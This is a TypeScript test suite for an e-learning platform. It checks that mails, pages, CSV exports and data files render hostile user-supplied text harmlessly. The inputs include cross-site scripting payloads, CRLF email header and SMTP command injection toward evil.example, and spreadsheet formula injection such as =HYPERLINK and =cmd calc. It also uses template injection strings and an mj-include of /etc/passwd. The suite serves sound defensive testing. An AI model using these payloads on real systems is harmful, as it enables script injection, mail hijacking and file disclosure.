import { setTimeout as sleep } from 'node:timers/promises'
import { simpleParser } from 'mailparser'
import postgres from 'postgres'
import { afterAll, beforeAll, describe, expect, inject, it, vi } from 'vitest'
import { expectPage } from '../refused.ts'
import { askForCode, signedIn, type Visitor, visitor } from '../visitor.ts'
import { type InboxMail, mailsTo } from '../walk.ts'
import { course, key } from '../who-may/cast.ts'

/** Names, titles and sentences that would like to be headers, markup, templates or formulas, in the mails and files that are really made. */
const { web, inbox, notifications, serviceSecret, postgres: administrator, lighthouse } = inject('platform')

const evil = 'evil.example'
const names = {
  learner: `{{unsubscribeUrl}}%s<img/src=x/onerror=alert(1)> ${'w'.repeat(200)}`,
  champion: `=HYPERLINK("https://${evil}","x")\r\nBcc: all@${evil}\r\n\r\n<mj-include path="/etc/passwd" />`,
  manager: `\u202Emoc.live\u2066 👩🏽‍🏫</title><script>alert(1)</script> \${7*7} <% 7*7 %>`,
  leaver: `{{#teams}}\r\nSubject: Pay me\r\n${'🧨'.repeat(60)}`,
} as const
type Hostile = keyof typeof names
const question = `Why?\r\n\r\n.\r\nRCPT TO:<all@${evil}>\r\n<script>alert('zq-question')</script>{{code}}`
const answer = `Because \u202E "><svg/onload=alert('zq-answer')> =cmd|' /C calc'!A0`
const title = `Steady\r\nBcc: all@${evil}\r\n\r\n<script>alert(1)</script>{{title}}\u202E`

const database = (name: string) => {
  const url = new URL(administrator)
  url.pathname = `/handrail_${name}`
  return postgres(url.href, { max: 1, onnotice: () => {} })
}
const [people, told, catalogue, progress] = [database('people'), database('notifications'), database('catalogue'), database('progress')]
afterAll(() => Promise.all([people.end(), told.end(), catalogue.end(), progress.end()]))

const runDigests = () =>
  fetch(`${notifications}/internal/digest-runs`, {
    method: 'POST',
    headers: { authorization: `Bearer ${serviceSecret}`, 'content-type': 'application/json' },
    body: JSON.stringify({ evenIfNotDue: true }),
  })

/** The mail as it travelled: what a mail program sees, and the bytes. */
const received = async (mail: InboxMail) => {
  const raw = await (await fetch(`${inbox}/api/email/${mail.id}/download`)).text()
  return { raw, head: raw.split(/\r?\n\r?\n/)[0] ?? '', mail: await simpleParser(raw) }
}

const ours =
  /^(From|To|Subject|Message-ID|Date|MIME-Version|Content-Type|Content-Transfer-Encoding|List-Unsubscribe|List-Unsubscribe-Post|Auto-Submitted|Received|X-Maildev-[\w-]+|Return-Path)$/i

/** One mail to one mailbox, with our headers and no other; nothing of what was put in became markup, a tag or a turned line. */
const expectHarmless = async (mail: InboxMail, address: string) => {
  const { head, mail: parsed } = await received(mail)
  expect([parsed.to].flat().flatMap((to) => to?.value.map((each) => each.address))).toEqual([address])
  const headers = head
    .replaceAll(/\r?\n[ \t]+/g, ' ')
    .split(/\r?\n/)
    .map((line) => line.split(':')[0] ?? '')
  expect(headers.filter((name) => !ours.test(name))).toEqual([])
  expect(headers.filter((name) => /^(to|subject)$/i.test(name))).toHaveLength(2)
  expect(parsed.subject).not.toMatch(/[\p{Cc}\u202a-\u202e\u2066-\u2069]/u)
  const html = String(parsed.html)
  expect(html).not.toMatch(/<script|<img\/|<svg|<mj-|onerror=alert(?![^<]*&gt;)/i)
  expect(`${html}${parsed.text}`).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/)
  expect(`${html}${parsed.text}`).not.toMatch(/zq-question|zq-answer/)
  for (const [, place = ''] of html.matchAll(/\s(?:href|src)="([^"]*)"/g)) expect(place).toMatch(new RegExp(`^(${web}/|data:)`))
  return parsed
}
const mailAbout = async (role: Hostile, has: (mail: InboxMail) => boolean) => {
  const { address } = lighthouse[role]
  const found = await vi.waitUntil(async () => (await mailsTo(inbox, address)).filter(has).at(-1), { timeout: 30_000, interval: 200 })
  return expectHarmless(found, address)
}

const who = {} as Record<Hostile, Visitor>
beforeAll(async () => {
  for (const role of Object.keys(names) as Hostile[]) {
    // As no use case would keep them: the mails must bear what an older row may hold.
    await people`update people set name = ${names[role]} where person_id = ${lighthouse[role].personId}`
    who[role] = await signedIn(web, inbox, lighthouse[role].address)
  }
  expect((await who.learner.api('PATCH', '/api/v1/preferences', { helpAnswers: 'at-once' })).status).toBeLessThan(300)
  const assigned = { teamId: lighthouse.teamId, pathId: 'safe-from-day-one', personIds: [lighthouse.learner.personId], dueOn: null }
  await vi.waitUntil(async () => (await who.manager.api('POST', '/api/v1/assignments', assigned, key())).status === 201, { timeout: 20_000, interval: 200 })
  const changed = () => told`
    update assignments set title = ${told.json({ en: title, fr: title })},
      next_course = jsonb_set(next_course, '{title}', ${told.json({ en: title, fr: title })})
    where person_id = ${lighthouse.learner.personId} and next_course is not null`
  await vi.waitUntil(async () => (await changed()).count > 0, { timeout: 20_000, interval: 200 })
})

describe('a mail', () => {
  it('of the week bears hostile names and titles as text of its lines', async () => {
    const asked = await who.learner.api('POST', '/api/v1/help-requests', { courseId: course, cardId: null, question }, key())
    expect(asked.status).toBe(201)
    await sleep(1_500)
    expect((await runDigests()).status).toBe(200)
    const digest = await mailAbout('learner', (mail) => mail.html.includes('/unsubscribe/'))
    expect(digest.subject).toContain(`Steady Bcc: all@${evil} <script>alert(1)</script>{{title}}`)
    expect(digest.text).toContain('Hello {{unsubscribeUrl}}%s<img/src=x/onerror=alert(1)>')
    const asks = await mailAbout('champion', (mail) => mail.html.includes('/unsubscribe/'))
    expect(asks.text).toContain(`{{unsubscribeUrl}}%s<img/src=x/onerror=alert(1)> ${'w'.repeat(200)}`)
  })

  it('that an answer is there tells who answered, and neither question nor answer', async () => {
    const [asked] = (await who.learner.api('GET', '/api/v1/help-requests/mine')).body.rows
    const reply = await who.champion.api('POST', `/api/v1/help-requests/${asked.helpRequestId}/answer`, { answer })
    expect(reply).toMatchObject({ status: 204 })
    await sleep(1_500)
    await runDigests()
    const answered = await mailAbout('learner', (mail) => mail.text.includes('answered your question'))
    expect(answered.text).toContain(`=HYPERLINK("https://${evil}","x") Bcc: all@${evil} <mj-include path="/etc/passwd" />`)
  })

  it('with a code goes to the one address that is known, whatever is put around it', async () => {
    const before = (await (await fetch(`${inbox}/api/email`)).json()).length
    for (const around of [`,all@${evil}`, `\r\nBcc: all@${evil}`, `%0aBcc:all@${evil}`, `> <all@${evil}`, '\u202e', '\u0000']) {
      const reply = await visitor(web).post('/sign-in', { address: `${lighthouse.champion.address}${around}` })
      expect([303, 422]).toContain(reply.status)
    }
    await sleep(1_000)
    const after = (await (await fetch(`${inbox}/api/email`)).json()) as InboxMail[]
    expect(after.slice(before).filter((mail) => mail.text.includes('/sign-in/link'))).toEqual([])
    const asking = visitor(web)
    await askForCode(asking, inbox, lighthouse.champion.address)
    await mailAbout('champion', (mail) => mail.text.includes('/sign-in/link'))
  })

  it('of farewell says no name', async () => {
    expect((await who.leaver.api('POST', '/api/v1/me/erasure', { forGood: true })).status).toBeLessThan(300)
    const farewell = await mailAbout('leaver', (mail) => !mail.text.includes('/sign-in/link') && !mail.html.includes('/unsubscribe/'))
    expect(`${farewell.subject}${farewell.text}${farewell.html}`).not.toMatch(/Pay me|#teams|🧨/)
  })
})

describe('a page', () => {
  it.each([
    ['manager', `/teams/${lighthouse.teamId}`],
    ['champion', '/cohort'],
    ['learner', '/account'],
    ['learner', '/account/my-data'],
  ] as const)('of the %s shows them as text: %s', async (role, path) => {
    const reply = await who[role].page(path)
    expectPage(reply, 200)
    expect(reply.text).not.toMatch(/<script>alert|<img\/|<svg\/onload|<mj-/)
  })
})

/** Text that no author of ours would get through the content gate: an agency's own course might bring it. */
const word = `zq</title></textarea>"'><script>alert('zq')</script><img/src=x onerror=alert(1)><svg/onload=alert(1)><a href="javascript:alert(1)" style="position:fixed">x</a>[y](javascript:alert(2)) {{t}} \${7*7} <% 7*7 %>`
/** What is read as an id, a kind or a drawing stays as it is. */
const isKept = (key: string) => /(?:Id|Ids|leadsTo|kind|svg)$/.test(key)
const hostile = (value: unknown, key = ''): unknown => {
  if (typeof value === 'string') return isKept(key) ? value : word
  if (Array.isArray(value)) return value.map((each) => hostile(each, key))
  if (value !== null && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, hostile(each, name)]))
  return value
}

describe('a course of words that would like to be code', () => {
  type Half = { cards: { cardId: string; kind: string }[] }
  const courses: { courseId: string; cards: Half['cards'] }[] = []

  /** Copies one course after the other, until every kind of card is there, for this agency alone. */
  beforeAll(async () => {
    const organization = lighthouse.organizationId
    const rows = await catalogue<{ course_id: string; course_version: number; en: Half; fr: Half }[]>`
      select course_id, course_version, v.en, v.fr from micro_courses c join micro_course_versions v using (course_id, course_version)
      where c.organization_id is null and c.state = 'published' order by course_id`
    const kinds = new Set<string>()
    for (const { course_id, en, fr } of rows) {
      if (en.cards.every(({ kind }) => kinds.has(kind))) continue
      for (const { kind } of en.cards) kinds.add(kind)
      const courseId = `hostile-${course_id}`
      courses.push({ courseId, cards: en.cards })
      const both = { en: word, fr: word }
      const own = { organization_id: organization, course_id: courseId }
      await catalogue`
        insert into micro_courses select (jsonb_populate_record(c, ${catalogue.json({ ...own, title: both, summary: both })})).* from micro_courses c
        where course_id = ${course_id} and organization_id is null`
      await catalogue`
        insert into micro_course_versions
        select (jsonb_populate_record(v, ${catalogue.json({ ...own, en: hostile(en) as object, fr: hostile(fr) as object } as never)})).*
        from micro_course_versions v join micro_courses c using (course_id, course_version) where v.course_id = ${course_id} and v.organization_id is null`
      await progress`
        insert into courses select (jsonb_populate_record(c, ${progress.json({ ...own, title: both, can_do: both })})).* from courses c
        where course_id = ${course_id} and organization_id is null order by course_version desc limit 1`
    }
    await catalogue`
      insert into library_versions (organization_id, version) values (${organization}, 1)
      on conflict (organization_id) do update set version = library_versions.version + 1`
    expect(kinds.size).toBeGreaterThan(9)
  })

  /** Shown, and as text: of what it brought nothing is markup, and no place leads out of the site. */
  const expectText = async (path: string) => {
    const reply = await who.learner.page(path)
    expect({ path, status: reply.status }).toEqual({ path, status: 200 })
    expectPage(reply, 200)
    expect({ path, shown: reply.text.includes('zq&lt;/title&gt;') || reply.text.includes('zq&lt;/textarea&gt;') }).toEqual({ path, shown: true })
    expect(reply.text).not.toMatch(/<script>|<\/title><\/textarea>|<img\/|<svg\/|(?:href|src|action)=["']?\s*javascript:|style="position/)
  }

  it('is text in the library, on its own pages and on every kind of card', async () => {
    await expectText('/library?words=zq')
    for (const { courseId, cards } of courses) {
      await expectText(`/courses/${courseId}`)
      for (const channel of ['low-tech', 'ask']) await expectText(`/courses/${courseId}/${channel}`)
      for (const { cardId } of cards) await expectText(`/courses/${courseId}/${cardId}`)
    }
  })
})

describe('a file', () => {
  it('that a spreadsheet opens has no cell that is a formula, and names no place to lead to', async () => {
    const { body } = await who.learner.api('GET', `/api/v1/micro-courses/${course}?language=en`)
    for (const { cardId } of body.cards)
      await who.learner.api('PUT', `/api/v1/course-progress/${course}/cards/${cardId}`, { courseVersion: body.courseVersion, choiceIds: [] })
    const { text, headers } = await who.learner.page('/progress/record.csv')
    expect(headers['content-disposition']).toMatch(/^attachment; filename="[\w-]+\.csv"$/)
    expect(headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(text.split('\r\n').length).toBeGreaterThan(2)
    for (const cell of text.slice(1).split(/\r\n|,/)) expect(cell).not.toMatch(/^"?\s*[=+\-@＝＋－＠]/)
  })

  it('of my data is JSON with every word as it was written', async () => {
    const { text, headers } = await who.learner.page('/account/my-data/file')
    expect(headers['content-type']).toMatch(/^application\/json/)
    expect(headers['content-disposition']).toMatch(/^attachment; filename="[\w.-]+"$/)
    const all = JSON.stringify(JSON.parse(text))
    expect(all).toContain(JSON.stringify(names.learner).slice(1, -1))
    expect(all).toContain('zq-question')
  })
})
